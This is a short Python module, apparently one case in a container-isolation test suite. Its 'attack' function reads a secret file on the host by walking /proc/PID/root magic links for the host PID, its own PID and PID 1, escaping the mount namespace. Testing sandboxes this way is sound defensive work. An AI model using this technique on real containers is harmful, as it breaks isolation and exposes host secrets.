"""Read through /proc/PID/root of a host process."""

from __future__ import annotations

ORIGIN = "Magic links of /proc lead into other mount namespaces."
SEEN = "secret"


def attack(target):
    for pid in (target["host_pid"], target["pid"], 1):
        try:
            with open(f"/proc/{pid}/root{target['secret_file']}") as stream:
                return stream.read()
        except OSError:
            continue
